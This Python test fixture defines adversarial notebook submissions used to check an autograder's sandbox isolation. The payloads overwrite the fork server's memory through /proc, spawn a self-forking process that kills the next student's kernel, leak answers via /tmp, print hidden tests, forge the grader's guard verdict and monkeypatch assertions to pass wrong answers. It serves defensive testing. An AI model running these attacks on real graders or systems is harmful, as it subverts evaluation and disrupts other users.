"""Attacks on the students graded after the attacker, on the fork server, and on the hidden tests.

Each case is a submission of assignment 01 made from the instructor's solutions with one thing
added, in the attacker's own words (a cell after the first answer, or a changed answer).
tests/adversarial/test_isolation_batch.py grades them in ONE worker (one sandboxed fork server),
each attacker followed by an honest student, and checks the attacker's outcome and that the
honest student right after it is graded exactly as when graded alone.

Every case worked against the engine before kernels got their own namespaces, uid and
redaction (the closing note of issue 20 gives each outcome then).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

ASSIGNMENT = "01_creating_variables"
NOTEBOOK = "creating_variables.ipynb"
FIRST_ANSWER = "ex1_make_bias"

# What an honest student's extra cell shows: the next student would see an attacker's traces here.
DIAGNOSTIC = (
    "import os\n"
    "print('TensorFlow', tf.__version__)\n"
    "print('files in /tmp', sorted(e.name for e in os.scandir('/tmp') if e.is_file()))\n"
    "print('processes', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))"
)


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    spoil: Callable[[nbformat.NotebookNode], nbformat.NotebookNode]  # solution -> submission
    score: str  # "solution", "zero" or "solution-minus:<exercise>"
    flagged: bool
    shows: str = ""  # a text the attacker's autograded notebook must show (its own report)


def copy_nb(nb):
    return nbformat.from_dict(json.loads(nbformat.writes(nb)))


def cell_after(grade_id: str, source: str) -> Callable:
    def spoil(nb):
        nb = copy_nb(nb)
        ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
        at = ids.index(grade_id)
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(source))
        return nb

    return spoil


def answer(grade_id: str, source: str, blank_others: bool = False) -> Callable:
    def spoil(nb):
        nb = copy_nb(nb)
        for c in nb.cells:
            g = c.metadata.get("nbgrader", {})
            if g.get("grade_id") == grade_id:
                c.source = source
            elif blank_others and g.get("solution") and c.cell_type == "code":
                c.source = "# YOUR CODE HERE\nraise NotImplementedError()"
        return nb

    return spoil


def honest(nb):
    """The instructor's solution plus a harmless cell that shows what the kernel sees."""
    return cell_after(FIRST_ANSWER, DIAGNOSTIC)(nb)


WRITE_SERVER_MEMORY = """
import os, sys
# Every other process this kernel can see (the fork server is its parent): overwrite the bytes of
# tf.__version__ in its memory (same address: the kernel is its fork), so every later kernel
# forked from it reports a poisoned version.
done = []
for pid in sorted({os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid(), 0}):
    try:
        with open(f"/proc/{pid}/mem", "r+b") as mem:
            s = tf.__version__
            mem.seek(id(s) + sys.getsizeof(s) - len(s) - 1)
            mem.write(b"P" * len(s))
            done.append(pid)
    except OSError as e:
        pass
print("wrote into", done if done else "nothing: blocked")
"""

OUTLIVE_AND_KILL = '''
import os, subprocess, sys
# A small process (fast to fork) that forks for ever, so its pid keeps changing: a one-shot
# sweep of /proc that kills leftovers misses it. It then kills every new session leader it sees
# (the next student's kernel), for 90 s.
SURVIVOR = """
import os, signal, time
mine, known, n = os.getsid(0), {int(p) for p in os.listdir("/proc") if p.isdigit()}, 0
end = time.time() + 90
while time.time() < end:
    if os.fork() != 0:
        os._exit(0)
    n += 1
    if n % 20 == 0:
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) not in known:
                try:
                    if os.getsid(int(p)) == int(p) != mine:
                        os.kill(int(p), signal.SIGKILL)
                except OSError:
                    pass
"""
subprocess.Popen([sys.executable, "-c", SURVIVOR], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("a process that keeps forking now waits for the next kernel")
'''

TMP_CHANNEL = """
import os
with open("/tmp/answers_for_the_next_student.txt", "w") as f:
    f.write("make_bias: tf.Variable(tf.zeros([units]), name='bias')")
try:
    print("neighbours:", os.listdir(os.path.dirname(os.getcwd())))
except OSError as e:
    print("neighbours: blocked", type(e).__name__)
"""

PRINT_THE_RUNNING_TEST = '''def make_bias(units):
    """Return a float32 tf.Variable of `units` zeros named "bias"."""
    print(get_ipython().user_ns["In"][-1])  # the running cell: the test, hidden part included
    return tf.Variable(tf.zeros([units], dtype=tf.float32), name="bias")
'''

FORGE_THE_GUARD = r"""
import json, re
def forge(lines):
    src = "".join(lines)
    if "autograder.engine.guard" in src:  # the grader's own check: answer it with a clean verdict
        m = re.search(r"_(?:before|after|install)\('([0-9a-f]+)'", src)
        verdict = {"nonce": m.group(1) if m else "", "reasons": [], "error": None}
        return [json.dumps(json.dumps(verdict)) + "\n"]
    if "assert" in src:  # a test cell: run nothing
        return ["pass\n"]
    return lines
get_ipython().input_transformers_cleanup.append(forge)
"""

SELF_UNDOING_PATCH = '''def variable_from_numpy(array):
    """Return a float32 tf.Variable holding the values of the NumPy `array`."""
    import linecache, sys
    caller = "".join(linecache.getlines(sys._getframe(1).f_code.co_filename))
    if "assert_allclose" in caller:  # called by the test: fake its next check, then put it back
        real = np.testing.assert_allclose
        def fake(*args, **kwargs):
            np.testing.assert_allclose = real  # gone before the test cell ends
        np.testing.assert_allclose = fake
    return tf.Variable(array * 2, dtype=tf.float32)  # wrong values
'''

CLASS_LIE = '''class FakeBias:
    """Not a variable, but says it is one."""
    def __init__(self, units):
        self.dtype, self.shape, self.name = tf.float32, tf.TensorShape([units]), "bias:0"
        self._value = np.zeros(units, dtype=np.float32)
    @property
    def __class__(self):
        return tf.Variable
    def numpy(self):
        return self._value

def make_bias(units):
    """Return a float32 tf.Variable of `units` zeros named "bias"."""
    return FakeBias(units)
'''

CASES = [
    Case("fork_server_memory", "write the fork server's memory through /proc/<ppid>/mem",
         cell_after(FIRST_ANSWER, WRITE_SERVER_MEMORY), "solution", False, "nothing: blocked"),
    Case("outlive_and_kill_next", "a process that keeps forking outlives its notebook, kills the next kernel",
         cell_after(FIRST_ANSWER, OUTLIVE_AND_KILL), "solution", False, "waits for the next kernel"),
    Case("tmp_channel", "leave answers in /tmp for the next student; list the other kernels' folders",
         cell_after(FIRST_ANSWER, TMP_CHANNEL), "solution", False, "neighbours: blocked"),
    Case("print_running_test", "the solution prints In[-1] when a test calls it: the hidden tests",
         answer(FIRST_ANSWER, PRINT_THE_RUNNING_TEST), "solution", True),
    Case("transformer_forges_guard", "an input transformer forges the guard's verdict and blanks the tests",
         lambda nb: cell_after(FIRST_ANSWER, FORGE_THE_GUARD)(answer(FIRST_ANSWER, "", True)(nb)),
         "zero", True),
    Case("self_undoing_patch", "a wrong answer swaps np.testing.assert_allclose for a fake that puts it back",
         answer("ex2_variable_from_numpy", SELF_UNDOING_PATCH), "solution-minus:ex2", True),
    Case("class_property_lie", "a fake bias whose __class__ property says tf.Variable",
         answer(FIRST_ANSWER, CLASS_LIE), "solution-minus:ex1", True),
]  # fmt: skip
